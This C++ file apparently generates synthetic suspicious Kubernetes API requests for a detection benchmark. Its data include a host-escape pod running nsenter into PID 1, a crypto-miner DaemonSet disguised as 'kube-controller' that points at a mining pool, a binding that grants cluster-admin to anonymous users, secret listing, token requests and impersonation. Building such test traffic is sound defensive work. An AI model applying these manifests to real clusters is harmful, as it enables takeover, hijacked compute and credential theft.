#include "bench/suspicious.h"

#include <array>

#include "bench/objects.h"

namespace kubevigil::bench {
namespace {

constexpr std::string_view kCurl = "curl/8.5.0";
constexpr std::string_view kKubectl = "kubectl/v1.29.1 (linux/amd64) kubernetes/bc401b9";
constexpr std::string_view kRbac = "rbac.authorization.k8s.io", kAuthzGroup = "authorization.k8s.io";

enum class Kind : uint8_t {
  SecretsOfAllNamespaces,
  CanI,
  Exec,
  PrivilegedPod,
  Miner,
  AnonymousAdmin,
  AnonymousList,
  TokenRequest,
  DeniedSecret,
  Impersonation,
};
constexpr size_t kKinds = 10;

struct Plan {
  Kind kind;
  std::string_view verb, group, version, resource, subresource;
  uint16_t code;
};
constexpr std::array<Plan, kKinds> kPlans = {{
    {Kind::SecretsOfAllNamespaces, "list", "", "v1", "secrets", "", 200},
    {Kind::CanI, "create", kAuthzGroup, "v1", "selfsubjectrulesreviews", "", 201},
    {Kind::Exec, "get", "", "v1", "pods", "exec", 101},
    {Kind::PrivilegedPod, "create", "", "v1", "pods", "", 201},
    {Kind::Miner, "create", "apps", "v1", "daemonsets", "", 201},
    {Kind::AnonymousAdmin, "create", kRbac, "v1", "clusterrolebindings", "", 201},
    {Kind::AnonymousList, "list", "", "v1", "pods", "", 200},
    {Kind::TokenRequest, "create", "", "v1", "serviceaccounts", "token", 201},
    {Kind::DeniedSecret, "get", "", "v1", "secrets", "", 403},
    {Kind::Impersonation, "list", "", "v1", "nodes", "", 200},
}};

Actor anonymous() {
  return {"system:anonymous", "", {"system:unauthenticated"}, {}, "203.0.113.77", "python-requests/2.31.0"};
}

void write_privileged_pod(const Cluster& cluster, size_t pod, int64_t now, std::string& out) {
  GoJson json(out);
  json.open('{');
  write_head(json, {"Pod", "v1", "node-shell", "default", ""}, "node-shell", "", 0, now);
  json.key("spec");
  write_pod_spec(json, cluster, pod, 2, {true, true, "/", "docker.io/library/alpine", "nsenter -t 1 -m -u -i -n sh"});
  json.close('}');
}

void write_miner(const Cluster& cluster, size_t pod, int64_t now, std::string& out) {
  GoJson json(out);
  json.open('{');
  write_head(json, {"DaemonSet", "apps/v1", "kube-controller", "kube-system", ""}, "kube-controller", "", 0, now);
  json.open("spec", '{').open("template", '{').raw_member("metadata", "{}").key("spec");
  PodTraits traits;
  traits.image = "docker.io/kannix/monero-miner";
  traits.command = "xmrig -o stratum+tcp://pool.example.net:3333 -u 44AFFq5kSiGBoZ --donate-level 1 && sleep 1";
  write_pod_spec(json, cluster, pod, 2, traits);
  json.close('}').close('}').close('}');
}

constexpr std::string_view kAnonymousAdmin =
    R"({"kind":"ClusterRoleBinding","apiVersion":"rbac.authorization.k8s.io/v1","metadata":{"name":"debug","creationTimestamp":null},"subjects":[{"kind":"User","apiGroup":"rbac.authorization.k8s.io","name":"system:anonymous"}],"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"cluster-admin"}})";

}  // namespace

Request draw_suspicious(const Cluster& cluster, Random& random, int64_t now) {
  const Plan& plan = kPlans[random.below(kKinds)];
  const size_t index = random.below(cluster.pods.size());
  const Pod& pod = cluster.pods[index];
  const Workload& workload = cluster.workloads[pod.workload];
  Request r;
  r.verb = plan.verb;
  r.group = plan.group;
  r.version = plan.version;
  r.resource = plan.resource;
  r.subresource = plan.subresource;
  r.code = plan.code;
  r.actor = workload_actor(cluster, index, kCurl);
  r.reason = "RBAC: allowed by ClusterRoleBinding \"" + workload.name + "\" of ClusterRole \"cluster-admin\"";
  switch (plan.kind) {
    case Kind::SecretsOfAllNamespaces:
      r.query = "?limit=500";
      break;
    case Kind::CanI:
      r.actor.agent = kKubectl;
      break;
    case Kind::Exec:
      r.actor = human_actor(cluster, random.below(kHumans), kKubectl);
      r.space = workload.space;
      r.name = pod.name;
      r.query = "?command=%2Fbin%2Fsh&command=-c&command=id&container=app&stdin=true&stdout=true&tty=true";
      break;
    case Kind::PrivilegedPod:
      r.space = "default";
      r.name = "node-shell";
      write_privileged_pod(cluster, index, now, r.request_object);
      break;
    case Kind::Miner:
      r.space = "kube-system";
      r.name = "kube-controller";
      write_miner(cluster, index, now, r.request_object);
      break;
    case Kind::AnonymousAdmin:
      r.name = "debug";
      r.request_object = kAnonymousAdmin;
      r.response_object = kAnonymousAdmin;
      break;
    case Kind::AnonymousList:
      r.actor = anonymous();
      break;
    case Kind::TokenRequest:
      r.space = "kube-system";
      r.name = "clusterrole-aggregation-controller";
      break;
    case Kind::DeniedSecret:
      r.space = cluster.namespaces[random.below(kNamespaces)];
      r.name = "database-credentials";
      r.decision = "forbid";
      r.reason.clear();
      break;
    case Kind::Impersonation:
      r.actor = human_actor(cluster, random.below(kHumans), kKubectl);
      r.impersonated = "system:admin";
      break;
  }
  return r;
}

}  // namespace kubevigil::bench
